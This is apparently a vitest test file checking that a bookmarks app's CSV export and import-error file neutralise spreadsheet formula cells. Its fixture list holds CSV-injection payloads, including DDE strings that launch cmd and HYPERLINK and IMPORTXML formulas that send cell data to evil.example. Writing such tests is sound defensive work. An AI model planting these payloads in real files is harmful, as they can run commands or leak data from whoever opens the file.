import { describe, expect, it } from 'vitest';
import { parseBookmarkCsv, parseCsvRows, toBookmarkCsv } from '../../shared/rules/bookmark-csv.ts';
import type { ExportCollection } from '../../shared/rules/bookmark-export.ts';
import { invalidEntriesCsv } from '../../shared/rules/bookmark-import.ts';
import { csvCell, unguardCsvCell } from '../../shared/rules/csv-cell.ts';

// CSV injection (OWASP): a cell a spreadsheet would run as a formula. Every CSV the product writes
// must neutralise a cell that starts with =, +, -, @, a tab or a carriage return.
const ATTACKS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "-1+1+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
  '=IMPORTXML(CONCAT("https://evil.example/?", A2), "//a")',
  '=DDE("cmd";"/C calc";"!A0")A0',
  '\t=1+1',
  '\r=1+1',
  '\r\n=1+1',
  '-5',
  '+44 20 7946 0000',
  '@mention',
  '\uFF1D1+1',
  '\uFF0Bcmd',
  '\uFF0D2+3',
  '\uFF20SUM(1)',
];
const FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** What a spreadsheet sees: the cells of the file, as an RFC 4180 reader splits them. */
const cellsOf = (csv: string) => parseCsvRows(csv);

describe('csvCell', () => {
  for (const attack of ATTACKS) {
    it(`neutralises ${JSON.stringify(attack)}: quoted, and read back it starts with a quote mark`, () => {
      const cell = csvCell(attack);
      expect(cell.startsWith(`"'`)).toBe(true);
      const [[read]] = cellsOf(`${cell}\r\n`);
      expect(read).toBe(`'${attack}`);
      expect(FORMULA.test(read)).toBe(false);
      expect(unguardCsvCell(read)).toBe(attack);
    });
  }

  it('leaves plain text alone and quotes separators, quotes and line breaks', () => {
    expect(csvCell('Plain title')).toBe('Plain title');
    expect(csvCell('https://example.com/a?b=1')).toBe('https://example.com/a?b=1');
    expect(csvCell(42)).toBe('42');
    expect(csvCell(null)).toBe('');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('one\ntwo')).toBe('"one\ntwo"');
    expect(csvCell("it's")).toBe("it's");
    // A mid-cell sign is no formula.
    expect(csvCell('a=b')).toBe('a=b');
  });
});

describe('the bookmarks export', () => {
  const collection: ExportCollection = {
    folders: ATTACKS.map((name, i) => ({ id: `f${i}`, name, parent_id: null, created_at: '2024-01-01T00:00:00.000Z' })),
    links: ATTACKS.map((attack, i) => ({
      title: attack,
      url: `https://example.com/${i}`,
      description: attack,
      folder_id: `f${i}`,
      created_at: '2024-01-01T00:00:00.000Z',
      updated_at: '2024-01-02T00:00:00.000Z',
      access_count: 0,
      share_count: 0,
      // Tag names may start like formulas too (the tags cell is guarded like any other).
      tags: ['=1+1', '@sum'],
    })),
  };

  it('writes no cell a spreadsheet would run, adds no row, and reads back to the same text', () => {
    const csv = toBookmarkCsv(collection);
    const rows = cellsOf(csv);
    expect(rows).toHaveLength(ATTACKS.length + 1);
    for (const row of rows) {
      expect(row).toHaveLength(9);
      for (const cell of row) expect(FORMULA.test(cell), JSON.stringify(cell)).toBe(false);
    }
    const parsed = parseBookmarkCsv(csv);
    // The importer trims titles and descriptions.
    expect(parsed.entries.map((e) => e.title)).toEqual(ATTACKS.map((a) => a.trim()));
    expect(parsed.entries.map((e) => e.description)).toEqual(ATTACKS.map((a) => a.trim()));
    expect(parsed.entries.every((e) => e.tags?.join('|') === '=1+1|@sum')).toBe(true);
  });
});

describe("the import's invalid entries file", () => {
  it('neutralises the entries of the imported file', () => {
    const csv = invalidEntriesCsv(
      ATTACKS.map((attack) => ({ title: attack, url: attack, folder: attack, reason: 'Not a valid http(s) URL' })),
    );
    const rows = cellsOf(csv);
    expect(rows).toHaveLength(ATTACKS.length + 1);
    for (const row of rows) for (const cell of row) expect(FORMULA.test(cell), JSON.stringify(cell)).toBe(false);
  });
});
